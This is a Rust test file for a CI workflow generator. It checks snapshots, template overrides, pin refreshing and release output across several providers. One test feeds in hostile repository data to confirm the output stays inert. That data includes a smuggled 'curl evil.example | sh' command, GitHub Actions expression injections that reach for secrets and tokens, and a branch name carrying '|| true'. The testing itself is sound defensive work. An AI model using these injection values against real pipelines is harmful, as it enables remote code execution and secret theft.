//! Workflow generation: a snapshot of every generated file for every fixture repository,
//! the safety checks on each, and hostile repository data (expressions, quotes,
//! newlines, YAML specials in script names, paths and versions) that must still yield
//! valid, injection-free YAML. `.ci/run` also runs the external validators (actionlint,
//! zizmor, the JSON schemas) over the same output.

use std::path::Path;

use pipewright::analyze::{analyze_path, Analysis, Commands, Language, PackageManager, Project};
use pipewright::generate::{generate, validate, Provider, Target};

fn fixtures() -> Vec<(String, std::path::PathBuf)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/repos");
    let mut v: Vec<_> = std::fs::read_dir(&root)
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (e.file_name().to_string_lossy().into_owned(), e.path())
        })
        .collect();
    v.sort();
    v
}

#[test]
fn github_workflows_for_every_fixture_match_their_snapshots() {
    for (name, path) in fixtures() {
        let analysis = analyze_path(&path).unwrap();
        let files =
            generate(&analysis, &Target::github()).unwrap_or_else(|e| panic!("{name}: {e}"));
        if name == "empty" {
            assert!(files.is_empty());
            continue;
        }
        assert!(!files.is_empty(), "{name}: nothing generated");
        for f in files {
            assert!(validate::check(Provider::Github, &f.content).is_empty());
            let file = f
                .path
                .rsplit('/')
                .next()
                .unwrap()
                .trim_end_matches(".yml")
                .to_owned();
            insta::assert_snapshot!(format!("github__{name}__{file}"), f.content);
        }
    }
}

fn hostile_project(path: &str, value: &str) -> Project {
    Project {
        path: path.to_owned(),
        language: Language::JavaScript,
        package_manager: Some(PackageManager::Npm),
        frameworks: vec![],
        test_tool: None,
        commands: Commands {
            install: Some(format!("npm ci {value}")),
            lint: vec![value.to_owned()],
            build: Some(value.to_owned()),
            test: Some(format!("npm test -- {value}")),
        },
        runtime_versions: vec![value.to_owned(), "22".to_owned()],
        confidence: 0.9,
        evidence: vec![format!("{path}/package-lock.json")],
        reasons: vec![],
        members: vec![],
        toolbox: Default::default(),
    }
}

#[test]
fn hostile_repository_data_stays_inert() {
    let values = [
        "${{ github.event.pull_request.title }}",
        "'; curl https://evil.example | sh; echo '",
        "line one\nline two: [x]\n- item\n  key: &a *a",
        "\"quoted\" and \\backslash\\ and # not a comment",
        "}} ${{ secrets.TOKEN }} {{",
        "émoji 🚀 \u{7} bell",
        "${{ matrix.node }} && curl evil",
    ];
    for v in values {
        for path in [
            "frontend",
            "weird ${{ github.head_ref }}/app",
            "a: b",
            "x\ny",
        ] {
            let analysis = Analysis {
                projects: vec![hostile_project(path, v), hostile_project("other", v)],
                dockerfile: true,
                dockerfiles: vec![format!("{path}/Dockerfile")],
                services: vec!["postgres".into(), "${{ github.token }}".into()],
                existing_ci: vec![],
                forge: None,
                missing: vec!["ci"],
                warnings: vec![],
                files_read: 0,
            };
            let files = generate(&analysis, &Target::github())
                .unwrap_or_else(|e| panic!("{v:?} {path:?}: {e}"));
            for f in &files {
                // Valid YAML with the safety defaults; every `${{` is ours or neutralised.
                assert!(
                    validate::check(Provider::Github, &f.content).is_empty(),
                    "{}",
                    f.content
                );
                // Drop the neutralised literals, then every expression left must be ours.
                let content = f.content.replace("${{ '${{' }}", "");
                for (i, _) in content.match_indices("${{") {
                    let rest = &content[i..];
                    let ours = [
                        "${{ github.workflow }}",
                        "${{ github.ref }}",
                        "${{ github.event_name == 'pull_request' }}",
                        "${{ matrix.",
                    ]
                    .iter()
                    .any(|ok| rest.starts_with(ok));
                    assert!(
                        ours,
                        "unexpected expression in {}: {}",
                        f.path,
                        &rest[..rest.len().min(60)]
                    );
                }
                assert!(!f.content.contains("${{ secrets"), "{}", f.content);
            }
        }
    }
}

#[test]
fn template_overrides_are_used_and_checked() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("github")).unwrap();
    let analysis = analyze_path(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/repos/go-gin-make"),
    )
    .unwrap();
    let target = Target {
        template_dir: Some(dir.path().to_owned()),
        ..Target::github()
    };
    // An override that drops the safety defaults is rejected, not emitted.
    std::fs::write(
        dir.path().join("github/workflow.yml.j2"),
        "name: x\non: push\njobs: {}\n",
    )
    .unwrap();
    let err = generate(&analysis, &target).unwrap_err().to_string();
    assert!(
        err.contains("permissions") && err.contains("concurrency"),
        "{err}"
    );
    // A broken template names itself.
    std::fs::write(dir.path().join("github/workflow.yml.j2"), "[% for x in %]").unwrap();
    let err = generate(&analysis, &target).unwrap_err().to_string();
    assert!(err.starts_with("template github/workflow.yml.j2:"), "{err}");
}

#[test]
fn gitlab_and_bitbucket_pipelines_for_every_fixture_match_their_snapshots() {
    for provider in [Provider::Gitlab, Provider::Bitbucket] {
        let target = Target {
            provider,
            ..Target::github()
        };
        for (name, path) in fixtures() {
            let analysis = analyze_path(&path).unwrap();
            let files =
                generate(&analysis, &target).unwrap_or_else(|e| panic!("{provider:?} {name}: {e}"));
            assert_eq!(files.is_empty(), name == "empty", "{provider:?} {name}");
            for f in files {
                let p = if provider == Provider::Gitlab {
                    "gitlab"
                } else {
                    "bitbucket"
                };
                insta::assert_snapshot!(format!("{p}__{name}"), f.content);
            }
        }
    }
}

#[test]
fn repository_configuration_and_features_shape_the_output() {
    use pipewright::repo_config;
    let analysis =
        analyze_path(&Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/repos/rust-axum"))
            .unwrap();
    let config = repo_config::parse(
        ".pipewright.yml",
        "branches: [main, release/*]\nfeatures:\n  security: true\n  matrix: false\n  lint: false\n\
extra-steps:\n  - name: Docs\n    run: cargo doc --no-deps\nruns-on: [self-hosted, linux]\npaths-ignore: [\"docs/**\"]\n",
    )
    .unwrap();
    for provider in [Provider::Github, Provider::Gitlab, Provider::Bitbucket] {
        let target = Target {
            provider,
            ..Target::github()
        }
        .with_repo_config(&config);
        let files = generate(&analysis, &target).unwrap_or_else(|e| panic!("{provider:?}: {e}"));
        let text = &files[0].content;
        assert!(
            text.contains("cargo audit"),
            "{provider:?}: security scan missing\n{text}"
        );
        assert!(
            text.contains("cargo doc --no-deps"),
            "{provider:?}: extra step missing"
        );
        assert!(!text.contains("cargo clippy"), "{provider:?}: lint is off");
        assert!(
            !text.contains("1.75"),
            "{provider:?}: matrix is off, newest version only"
        );
        assert!(text.contains("self-hosted"), "{provider:?}: runner labels");
        assert!(text.contains("release"), "{provider:?}: branches");
    }
    let gh = generate(&analysis, &Target::github().with_repo_config(&config)).unwrap();
    assert!(gh[0].content.contains("paths-ignore: [\"docs/**\"]"));

    // Unsafe branch names are errors, not guesses.
    let bad = repo_config::parse(".pipewright.yml", "branches: [\"main\\\" || true\"]\n").unwrap();
    let err = generate(&analysis, &Target::github().with_repo_config(&bad))
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with("branch `main\" || true` has characters"),
        "{err}"
    );
}

/// A fake of the two GitHub API routes `pins refresh` uses.
async fn fake_github(missing: Option<&'static str>) -> (String, actix_web::dev::ServerHandle) {
    use actix_web::{web, App, HttpResponse, HttpServer};
    let server = HttpServer::new(move || {
        App::new()
            .route(
                "/repos/{owner}/{repo}/releases/latest",
                web::get().to(move |path: web::Path<(String, String)>| async move {
                    let (owner, repo) = path.into_inner();
                    if Some(repo.as_str()) == missing {
                        return HttpResponse::NotFound()
                            .json(serde_json::json!({"message": "Not Found"}));
                    }
                    let tag = if owner == "actions" && repo == "checkout" {
                        "v8.0.0"
                    } else {
                        "v99.1.0"
                    };
                    HttpResponse::Ok().json(serde_json::json!({ "tag_name": tag }))
                }),
            )
            .route(
                "/repos/{owner}/{repo}/commits/{tag}",
                web::get().to(|path: web::Path<(String, String, String)>| async move {
                    let (_, repo, tag) = path.into_inner();
                    let sha = format!("{:0>40}", format!("{}{}", repo.len(), tag.len()));
                    HttpResponse::Ok().json(serde_json::json!({ "sha": sha }))
                }),
            )
    })
    .workers(1)
    .bind("127.0.0.1:0")
    .unwrap();
    let addr = server.addrs()[0];
    let server = server.run();
    let handle = server.handle();
    actix_web::rt::spawn(server);
    (format!("http://{addr}"), handle)
}

#[actix_web::test]
async fn pins_refresh_reads_latest_releases_and_their_commits() {
    use pipewright::generate::pins;
    let (url, handle) = fake_github(None).await;
    let fresh = pins::refresh(&url, Some("token")).await.unwrap();
    assert_eq!(fresh.len(), pins::PINS.len());
    let checkout = fresh
        .iter()
        .find(|p| p.action == "actions/checkout")
        .unwrap();
    assert_eq!(
        (checkout.version.as_str(), checkout.old_version),
        ("v8.0.0", "v7.0.1")
    );
    assert_eq!(checkout.sha.len(), 40);
    let gradle = fresh
        .iter()
        .find(|p| p.action == "gradle/actions/setup-gradle")
        .unwrap();
    assert_eq!(
        gradle.version, "v99.1.0",
        "subpath actions are looked up in their repository"
    );
    let table = pins::render_table(&fresh);
    assert!(
        table.starts_with("pub static PINS: &[Pin] = &[\n")
            && table.contains("actions/checkout\", version: \"v8.0.0\"")
    );
    handle.stop(false).await;

    let (url, handle) = fake_github(Some("setup-go")).await;
    let err = format!("{:#}", pins::refresh(&url, None).await.unwrap_err());
    assert!(err.starts_with("actions/setup-go: latest release"), "{err}");
    handle.stop(false).await;
}

#[test]
fn coverage_and_release_for_every_fixture_and_provider() {
    for provider in [Provider::Github, Provider::Gitlab, Provider::Bitbucket] {
        let mut target = Target {
            provider,
            ..Target::github()
        };
        target.features.coverage = true;
        target.features.release = true;
        for (name, path) in fixtures() {
            let analysis = analyze_path(&path).unwrap();
            let files =
                generate(&analysis, &target).unwrap_or_else(|e| panic!("{provider:?} {name}: {e}"));
            let all: String = files.iter().map(|f| f.content.as_str()).collect();
            if name == "rust-axum" {
                assert!(
                    all.contains("cargo llvm-cov") && all.contains("cargo publish --locked"),
                    "{provider:?}\n{all}"
                );
            }
            if name == "python-uv-fastapi" && provider == Provider::Github {
                let release = files
                    .iter()
                    .find(|f| f.path.ends_with("release.yml"))
                    .unwrap();
                assert!(
                    release.content.contains("pypa/gh-action-pypi-publish@")
                        && release.content.contains("id-token: write")
                );
                assert!(
                    release.content.contains("tags: [\"v*\"]")
                        && !release.content.contains("pull_request")
                );
            }
        }
    }
}
